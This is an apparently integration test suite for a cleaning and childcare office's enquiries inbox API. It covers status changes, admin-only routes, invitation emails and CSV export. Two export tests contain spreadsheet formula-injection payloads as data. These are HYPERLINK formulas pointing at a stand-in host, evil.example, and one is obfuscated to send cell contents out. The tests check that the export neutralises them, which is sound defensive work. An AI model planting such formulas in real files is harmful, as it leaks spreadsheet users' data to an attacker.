import { randomUUID } from 'node:crypto';
import { GetCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ENQUIRY_NOTICE_IDS, enquiryKey } from '../../lambdas/data/enquiry';
import { enquiryMail, type StoredMailState } from '../../lambdas/data/enquiry-mail';
import { NOTICE_QUEUE, noticeKey } from '../../lambdas/data/notice';
import { sendDueNotices } from '../../lambdas/notices/reactions';
import { type EnquiryListItem, EnquiryListItemSchema } from '../../shared/schemas/enquiry';
import { pageOf } from '../../shared/schemas/pagination';
import {
  api,
  bearer,
  db,
  emulator,
  eventually,
  mailFor,
  patchJson,
  postJson,
  signIn,
  stack,
  stackIdle,
} from './support';

const EnquiryPageSchema = pageOf(EnquiryListItemSchema);

const send = async (enquiry: Record<string, unknown>) => {
  const response = await postJson('/api/enquiries', enquiry);
  expect(response.status).toBe(201);
  return ((await response.json()) as { id: string }).id;
};

const general = (overrides: Record<string, unknown> = {}) => ({
  type: 'general',
  name: 'Priya Shah',
  email: `priya-${randomUUID()}@example.org`,
  subject: 'Fortnightly clean',
  message: 'Could you quote for a fortnightly clean of a three-bedroom house?',
  ...overrides,
});

const list = async (token: string, query: Record<string, string>) => {
  const response = await api(`/api/admin/enquiries?${new URLSearchParams(query)}`, {
    headers: bearer(token),
  });
  expect(response.status).toBe(200);
  return EnquiryPageSchema.parse(await response.json());
};

const stored = async (id: string) =>
  (
    await db.send(
      new GetCommand({ TableName: stack.env.TABLE_NAME, Key: enquiryKey(id), ConsistentRead: true }),
    )
  ).Item;

const move = (token: string, id: string, body: unknown) =>
  patchJson(`/api/admin/enquiries/${id}`, body, token);

const codeOf = async (response: Response) => ((await response.json()) as { code: string }).code;

describe("the office's enquiries inbox", () => {
  it('shows a registration labelled, in the form order, values as the form showed them', async () => {
    const admin = await signIn({ admin: true });
    const email = `grace-${randomUUID()}@example.net`;
    await send({
      type: 'nanny',
      fullName: 'Grace Okafor',
      telephone: '01632 960789',
      address: '4 Church Road, Potters Bar',
      email,
      serviceRequired: 'both',
      numberOfChildren: 2,
      childrenAges: '4 and 7',
      childrenGenders: 'Girl and boy',
      preferredDaysTimes: 'Fridays',
      specialRequirements: '',
    });
    const { items } = await list(admin.accessToken, { q: email });
    expect(items).toHaveLength(1);
    const [item] = items as [EnquiryListItem];
    expect(item).toMatchObject({
      status: 'new',
      type: 'nanny',
      telephone: '01632 960789',
      summary: 'Childcare: Both nannying and babysitting',
    });
    expect(item.fields).toEqual([
      { field: 'fullName', label: 'Full name', value: 'Grace Okafor' },
      { field: 'telephone', label: 'Telephone', value: '01632 960789', link: 'tel' },
      { field: 'email', label: 'Email', value: email, link: 'mailto' },
      { field: 'address', label: 'Address', value: '4 Church Road, Potters Bar' },
      { field: 'serviceRequired', label: 'Service required', value: 'Both nannying and babysitting' },
      { field: 'numberOfChildren', label: 'Number of children', value: '2' },
      { field: 'childrenAges', label: "Children's ages", value: '4 and 7' },
      { field: 'childrenGenders', label: "Children's genders", value: 'Girl and boy' },
      { field: 'preferredDaysTimes', label: 'Preferred days and times', value: 'Fridays' },
    ]);
  });

  it('moves an enquiry from new to contacted, recording who and when; filters by status and kind', async () => {
    const admin = await signIn({ admin: true });
    const enquiry = general();
    const id = await send(enquiry);
    const before = Date.now();
    const response = await move(admin.accessToken, id, { from: 'new', status: 'contacted' });
    expect(response.status).toBe(200);
    const moved = EnquiryListItemSchema.parse(await response.json());
    expect(moved.status).toBe('contacted');
    // The admin by the name on their profile (written by signIn as `Test <part of their email>`).
    expect(moved.statusChanged?.by).toBe(`Test ${admin.email.slice(5, 13)}`);
    expect(Date.parse(moved.statusChanged?.at ?? '')).toBeGreaterThanOrEqual(before - 1000);
    expect(moved.statusHistory).toEqual([
      { from: 'new', to: 'contacted', by: moved.statusChanged?.by, at: moved.statusChanged?.at },
    ]);

    const q = enquiry.email;
    expect((await list(admin.accessToken, { q, status: 'contacted' })).items.map((e) => e.id)).toEqual([id]);
    expect((await list(admin.accessToken, { q, status: 'new' })).items).toEqual([]);
    expect((await list(admin.accessToken, { q, type: 'general' })).items.map((e) => e.id)).toEqual([id]);
    expect((await list(admin.accessToken, { q, type: 'cleaning' })).items).toEqual([]);
    // The name searches too, whatever its case.
    const byName = await list(admin.accessToken, { q: 'PRIYA SHAH', status: 'contacted' });
    expect(byName.items.map((e) => e.id)).toContain(id);

    // Then closed, with the history kept.
    const closed = EnquiryListItemSchema.parse(
      await (await move(admin.accessToken, id, { from: 'contacted', status: 'closed' })).json(),
    );
    expect(closed.statusHistory.map((entry) => `${entry.from}>${entry.to}`)).toEqual([
      'new>contacted',
      'contacted>closed',
    ]);
  });

  it('refuses a move the status machine does not allow, or a value it does not know (422), and unknown ids (404)', async () => {
    const admin = await signIn({ admin: true });
    const id = await send(general());
    const refused = async (body: unknown, status: number, code: string) => {
      const response = await move(admin.accessToken, id, body);
      expect(response.status).toBe(status);
      expect(await codeOf(response)).toBe(code);
    };
    await refused({ from: 'new', status: 'new' }, 422, 'validation_failed');
    await refused({ from: 'closed', status: 'contacted' }, 422, 'validation_failed');
    await refused({ from: 'new', status: 'done' }, 422, 'validation_failed');
    await refused({ status: 'contacted' }, 422, 'validation_failed');
    await refused({ from: 'new', status: 'contacted', by: 'someone else' }, 422, 'validation_failed');
    expect((await stored(id))?.status).toBe('new');
    const missing = await move(admin.accessToken, randomUUID(), { from: 'new', status: 'contacted' });
    expect(missing.status).toBe(404);
    // A move from a status the enquiry is not in is a conflict: someone else moved it.
    await refused({ from: 'contacted', status: 'closed' }, 409, 'status_changed');
  });

  it('of two admins racing, one moves the enquiry and the other is told who did', async () => {
    const [alice, bob] = await Promise.all([signIn({ admin: true }), signIn({ admin: true })]);
    const id = await send(general());
    const [a, b] = await Promise.all([
      move(alice.accessToken, id, { from: 'new', status: 'contacted' }),
      move(bob.accessToken, id, { from: 'new', status: 'closed' }),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 409]);
    const [winner, loser] = a.status === 200 ? [a, b] : [b, a];
    const won = EnquiryListItemSchema.parse(await winner.json());
    const lost = (await loser.json()) as { code: string; message: string };
    expect(lost.code).toBe('status_changed');
    expect(lost.message).toContain(won.statusChanged?.by);
    const item = await stored(id);
    expect(item?.status).toBe(won.status);
    expect(item?.statusHistory).toHaveLength(1);
  });

  it('is for admins only: a client gets 403 on every inbox route', async () => {
    const client = await signIn();
    const id = await send(general());
    const headers = bearer(client.accessToken);
    expect((await api('/api/admin/enquiries', { headers })).status).toBe(403);
    expect((await api('/api/admin/enquiries/export', { headers })).status).toBe(403);
    expect((await move(client.accessToken, id, { from: 'new', status: 'contacted' })).status).toBe(403);
    expect((await postJson(`/api/admin/enquiries/${id}/invite`, undefined, headers)).status).toBe(403);
    expect((await stored(id))?.status).toBe('new');
    expect((await stored(id))?.invite).toBeUndefined();
  });

  it('invites the sender to open an account: a sign-up link with their address, once, recorded', async () => {
    const admin = await signIn({ admin: true });
    const enquiry = general({ email: `Priya.Shah+${randomUUID().slice(0, 8)}@example.org` });
    const id = await send(enquiry);
    const response = await api(`/api/admin/enquiries/${id}/invite`, {
      method: 'POST',
      headers: bearer(admin.accessToken),
    });
    expect(response.status).toBe(202);
    const invited = EnquiryListItemSchema.parse(await response.json());
    expect(invited.invite?.by).toBe(`Test ${admin.email.slice(5, 13)}`);

    const invite = await eventually(async () => {
      const mail = (await mailFor(enquiry.email)).find((m) => m.subject.startsWith('Your invitation'));
      expect(mail).toBeDefined();
      return mail;
    });
    const link = new URL('/auth', stack.env.SITE_URL);
    link.searchParams.set('mode', 'signup');
    link.searchParams.set('email', enquiry.email);
    expect(invite?.body.text).toContain(link.toString());
    expect(invite?.body.html).toContain(link.toString().replaceAll('&', '&#38;'));
    expect(new URL(link.toString()).searchParams.get('email')).toBe(enquiry.email);

    const sent = await eventually(async () => {
      const [item] = (await list(admin.accessToken, { q: enquiry.email })).items;
      expect(item?.invite?.sentAt).toBeDefined();
      return item;
    });
    expect(sent?.mailStatus).toBe('sent');
    const again = await api(`/api/admin/enquiries/${id}/invite`, {
      method: 'POST',
      headers: bearer(admin.accessToken),
    });
    expect(again.status).toBe(409);
    expect(await codeOf(again)).toBe('already_invited');
    await stackIdle();
    expect(
      (await mailFor(enquiry.email)).filter((m) => m.subject.startsWith('Your invitation')),
    ).toHaveLength(1);
  });

  it('keeps an invitation asked for while mail is down, and the notice sender sends it when mail is back', async () => {
    const admin = await signIn({ admin: true });
    const enquiry = general();
    const id = await send(enquiry);
    /** Where the enquiry's mail stands, as the inbox derives it from its notices (decision 012). */
    const mailOf = async () => (await enquiryMail([(await stored(id)) as StoredMailState])).get(id);
    const invitation = async () =>
      (
        await db.send(
          new GetCommand({
            TableName: stack.env.TABLE_NAME,
            Key: noticeKey({ type: 'enquiry', id }, ENQUIRY_NOTICE_IDS.invitation(id)),
            ConsistentRead: true,
          }),
        )
      ).Item;
    await eventually(async () => expect((await mailOf())?.mailStatus).toBe('sent'));
    await emulator('ses', 'stop');
    try {
      const response = await api(`/api/admin/enquiries/${id}/invite`, {
        method: 'POST',
        headers: bearer(admin.accessToken),
      });
      expect(response.status).toBe(202);
      const unsent = await eventually(async () => {
        const mail = await mailOf();
        expect(mail?.mailStatus).toBe('unsent');
        return mail;
      });
      expect(unsent?.inviteSentAt).toBeUndefined();
      // Waiting on the sender's due queue for its next attempt.
      expect((await invitation())?.GSI1PK).toBe(NOTICE_QUEUE);
    } finally {
      await emulator('ses', 'start');
    }
    // Two minutes later its retry is due, and mail is back.
    await sendDueNotices(new Date(Date.now() + 120_000));
    const mail = await mailOf();
    expect(mail?.inviteSentAt).toBeDefined();
    expect(mail?.mailStatus).toBe('sent');
    expect((await invitation())?.GSI1PK).toBeUndefined();
    await stackIdle();
    expect(
      (await mailFor(enquiry.email)).filter((m) => m.subject.startsWith('Your invitation')),
    ).toHaveLength(1);
  });

  it("marks one from the public form an unverified sender, and one sent signed in as that client's, in the list and its CSV (L1)", async () => {
    const [client, admin] = await Promise.all([signIn(), signIn({ admin: true })]);
    const typed = await send(general({ email: client.email, subject: 'Typed by anyone' }));
    const signedIn = await postJson(
      '/api/me/enquiries',
      general({ email: client.email, subject: 'Sent signed in' }),
      bearer(client.accessToken),
    );
    expect(signedIn.status).toBe(201);
    const own = ((await signedIn.json()) as { id: string }).id;

    const { items } = await list(admin.accessToken, { q: client.email });
    const byId = new Map(items.map((item) => [item.id, item]));
    expect(byId.get(own)?.senderId).toBe(client.sub);
    expect(byId.get(typed)).toBeDefined();
    expect(byId.get(typed)?.senderId).toBeUndefined();
    // Nothing in the request chooses the sender: the public route ignores a token, a body field is refused.
    const claimed = await postJson(
      '/api/enquiries',
      general({ email: client.email, senderId: client.sub }),
      bearer(client.accessToken),
    );
    expect(claimed.status).toBe(422);
    const withToken = await postJson(
      '/api/enquiries',
      general({ email: client.email, subject: 'Public route, token sent' }),
      bearer(client.accessToken),
    );
    expect(withToken.status).toBe(201);
    const stray = await stored(((await withToken.json()) as { id: string }).id);
    expect(stray).toBeDefined();
    expect(stray?.senderId).toBeUndefined();

    const response = await api(`/api/admin/enquiries/export?${new URLSearchParams({ q: client.email })}`, {
      headers: bearer(admin.accessToken),
    });
    const [header, ...rows] = parse(((await response.json()) as { csv: string }).csv, {
      bom: true,
    }) as string[][];
    const sender = header?.indexOf('Sender') ?? -1;
    const clientId = header?.indexOf('Client id') ?? -1;
    const row = (subject: string) => rows.find((cells) => cells[6] === subject);
    expect(row('Sent signed in')?.[sender]).toBe('Sent signed in by a client');
    expect(row('Sent signed in')?.[clientId]).toBe(client.sub);
    expect(row('Typed by anyone')?.[sender]).toBe('Unverified sender');
    expect(row('Typed by anyone')?.[clientId]).toBe('');
  });

  it('exports the filtered inbox as CSV, a formula-looking name neutralised', async () => {
    const admin = await signIn({ admin: true });
    const email = `csv-${randomUUID()}@example.org`;
    const hostile = '=HYPERLINK("http://evil.example","Click")';
    await send(general({ name: hostile, email }));
    const kept = await send(general({ name: 'Sam Lee', email: `other-${email}` }));
    await move(admin.accessToken, kept, { from: 'new', status: 'closed' });
    const response = await api(
      `/api/admin/enquiries/export?${new URLSearchParams({ q: email, status: 'new' })}`,
      {
        headers: bearer(admin.accessToken),
      },
    );
    expect(response.status).toBe(200);
    const file = (await response.json()) as { filename: string; csv: string; rows: number };
    expect(file).toMatchObject({ filename: 'enquiries.csv', rows: 1 });
    expect(file.csv.startsWith('\uFEFFReceived,')).toBe(true);
    const [header, ...rows] = parse(file.csv, { bom: true }) as string[][];
    expect(header?.slice(0, 5)).toEqual(['Received', 'Status', 'Kind', 'Name', 'Email']);
    expect(rows).toHaveLength(1);
    expect(rows[0]?.[3]).toBe(`'${hostile}`);
    expect(rows[0]?.[4]).toBe(email);
    expect(rows[0]?.[7]).toContain(`Name: ${hostile}\nEmail: ${email}`);
  });

  it('keeps one row per enquiry with no live formula on any line, as the security review tried (M1)', async () => {
    const admin = await signIn({ admin: true });
    const email = `csv-${randomUUID()}@example.org`;
    // The review's subject: refused, as no subject holds a line break.
    const refused = await postJson('/api/enquiries', general({ email, subject: 'Quote please\n=1+1' }));
    expect(refused.status).toBe(422);
    expect(((await refused.json()) as { issues: { path: string }[] }).issues).toEqual([
      expect.objectContaining({ path: 'subject', message: 'Subject must be on one line' }),
    ]);
    // A message may hold lines; each one that starts like a formula is neutralised, and the cell stays one.
    const message =
      'Quote please\n=HYPERLINK(CHAR(104)&"ttp://evil.example?"&E2&F2)\n+44 7700 900123\n@SUM(A1)';
    await send(general({ email, message }));
    await send({
      type: 'cleaning',
      fullName: 'Jo Bloggs',
      telephone: '01632 960000',
      address: '1 High Street, Potters Bar',
      email,
      serviceRequired: 'cleaning',
      specialRequirements: 'Two cats\n=1+1',
    });
    const response = await api(`/api/admin/enquiries/export?${new URLSearchParams({ q: email })}`, {
      headers: bearer(admin.accessToken),
    });
    expect(response.status).toBe(200);
    const file = (await response.json()) as { csv: string; rows: number };
    expect(file.rows).toBe(2);
    // As a spreadsheet reads it: a line break outside quotes ends a record.
    const [, ...rows] = parse(file.csv, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    expect(rows).toHaveLength(2);
    for (const row of rows)
      for (const value of row)
        for (const line of value.split(/\r\n|\r|\n/)) expect(line, value).not.toMatch(/^[=+\-@\t]/);
    const details = rows.map((row) => row[7] ?? '').join('\n');
    expect(details).toContain(`'=HYPERLINK(CHAR(104)`);
    expect(details).toContain("'+44 7700 900123");
    expect(details).toContain("'=1+1");
  });
});
